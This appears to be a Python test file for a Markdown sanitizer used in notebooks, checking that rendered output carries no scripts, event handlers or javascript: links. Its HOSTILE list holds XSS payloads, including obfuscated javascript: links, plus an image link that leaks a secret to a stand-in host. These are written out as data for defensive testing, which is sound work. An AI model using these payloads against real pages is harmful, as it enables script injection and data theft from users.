"""A stranger's Markdown reads as it did, and can do nothing."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, strategies as st
from markdown_it import MarkdownIt

from pi_native._notebook.sanitize import defused, encoded

# Lets tags through, as notebooks do; so what comes out shows what was let through to it.
RENDERER = MarkdownIt("commonmark", {"html": True}).enable("table")
# As lax as the renderers that do not look at links, one of which is JupyterLab's.
RENDERER.validateLink = lambda _url: True  # type: ignore[method-assign]
RENDERER.normalizeLink = lambda url: url  # type: ignore[method-assign]

HARMLESS = {
    *("p", "em", "strong", "code", "pre", "a", "h1", "h2", "ul", "ol", "li", "br", "hr"),
    *("blockquote", "table", "thead", "tbody", "tr", "th", "td"),
}
OURS = re.compile(r"</?(?:pre|code)>|<br ?/?>")
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<!-- <b> -->",
    "<?php ?>",
    "</p><iframe src='//evil.example'>",
    "<br onclick=alert(1)>",
    "<javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JavaScript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6a;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/",
    '[a]: b "\n```\n"\n<script>alert(1)</script>\n```',
    "```\n```\n<b>",
    "~~~\n```\n~~~\n<b>",
    "> ```html\n<b>\n",
    "1. x\n   ```html\n   <b>\n   ```\n",
    "`` ` <b> ``",
    "`x\n<b>`",
    "$`$ <b> `$`",
    "$$ <b> $$",
    "    <b>",
]
PIECES = [
    *(
        "<",
        ">",
        "b",
        "/b",
        "!",
        "?",
        "[",
        "]",
        "(",
        ")",
        ":",
        "&",
        "#106;",
        "colon;",
        '"',
        "$",
        "$$",
    ),
    *("`", "``", "```", "~~~", "\n", "\n\n", "    ", " ", "> ", "- ", "\\", "|", "script", "java"),
    *("javascript", "JAVASCRIPT:", "[y]: ", "<b>", "![x](", "](x)", "\r\n", "\x00", "\ud83d", "x"),
]


class Page(HTMLParser):
    """What a browser would find in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.schemes: set[str] = set()
        self.text = ""
        self.feed(RENDERER.render(text))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note the tag, and where it leads."""
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add(name)
            address = re.sub(r"[\x00-\x20]", "", value or "")
            self.schemes |= set(re.findall(r"\A([A-Za-z][A-Za-z0-9+.-]*):", address.lower()))

    def handle_comment(self, data: str) -> None:
        """A comment may hide what comes after it."""
        self.tags.add(f"<!--{data}")

    def handle_data(self, data: str) -> None:
        """Note the text."""
        self.text += data


def assert_harmless(markdown: str) -> None:
    """The page has nothing that Markdown is not for, and no other reading could give it that."""
    page = Page(markdown)
    assert page.tags <= HARMLESS
    assert page.attributes <= {"href", "title", "class", "start"}
    assert "javascript" not in page.schemes
    assert not re.search(r"<[A-Za-z/!?]", OURS.sub("", markdown))
    assert "![" not in markdown
    assert not re.search(r"javascript\s*\\*:", markdown, re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_act_is_taken_apart(text: str) -> None:
    """No tag, no picture from elsewhere and no link to script comes through."""
    assert_harmless(defused(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_the_page_could_tell(text: str) -> None:
    """Each hostile text would have done something: the checks above are able to fail."""
    with pytest.raises(AssertionError):
        assert_harmless(text)


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_no_mixture_of_marks_acts(text: str) -> None:
    """Whatever marks come together, in whatever order, the page stays harmless."""
    assert_harmless(defused(text))


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n\n*Light* of **day**, and ~~not~~ [more](https://example.org/?a=1&b=2).",
        "- one\n- two\n\n1. three\n\n> four",
        "| a | b |\n|---|---|\n| 1<br>2 | 3 < 4 |",
        "```python\nif a < b and c > d:\n    x &= y\n```",
        "```\nnot closed\n```\n\n~~~\nnor this\n~~~",
        "Call `f(x) < 3`, or ``a ` b``.",
        "$a < b$ and $$\\sum_{i<9} i$$",
        "Fish &amp; chips, AT&T, 5 &lt; 6 &nbsp;",
        "Ah! [link](x) \u00dcber \U0001f30d",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    """Markdown without danger comes through unchanged."""
    assert defused(text) == text


def test_code_with_tags_reads_as_it_did() -> None:
    """A block of code that holds tags is shown as code, character for character."""
    code = '<p class="x">\n\n  *a* &amp; `b`\n</p>\n'
    page = Page(defused(f"Look:\n```html\n{code}```\nand *on*."))
    assert page.text == f"Look:\n{code}\nand on.\n"
    assert {"pre", "code", "em"} <= page.tags


def test_code_in_a_list_stays_in_it() -> None:
    """A block of code that holds tags loses its list item's indent and nothing else."""
    page = Page(defused("1. Do:\n   ```html\n   <b>\n     x\n   ```\n2. Done"))
    assert "<b>\n  x\n" in page.text
    assert {"ol", "pre"} <= page.tags


def test_a_span_with_tags_reads_as_it_did() -> None:
    """A tag between backticks is shown as code."""
    assert defused("Use `<b>`.") == "Use <code>&#60;b&#62;</code>."


def test_a_formula_keeps_its_sign() -> None:
    """A less-than sign that looks like a tag becomes TeX's word for it."""
    assert defused("$a<b$") == r"$a\lt b$"


def test_code_that_is_still_being_written_is_closed() -> None:
    """What comes after an open block of code does not fall into it."""
    page = Page(defused("```python\nx = 1") + "\n\n*after*")
    assert "em" in page.tags
    assert "x = 1\n" in page.text


def test_what_is_no_character_is_replaced() -> None:
    """Control characters and halves of surrogate pairs become replacement characters."""
    assert defused("a\x1b[0m \ud83d") == "a\ufffd[0m \ufffd"
    assert defused("\ud83d\ude00") == "\U0001f600"


@given(st.text() | st.lists(st.sampled_from(PIECES)).map("".join))
def test_an_encoded_text_means_nothing_to_a_parser(text: str) -> None:
    """It stays one line, and the page shows it as it was."""
    shown = encoded(text)
    assert "\n" not in shown
    assert not re.search(r"[!-/:-@\[-`{-~]", re.sub(r"&#\d+;", "", shown))
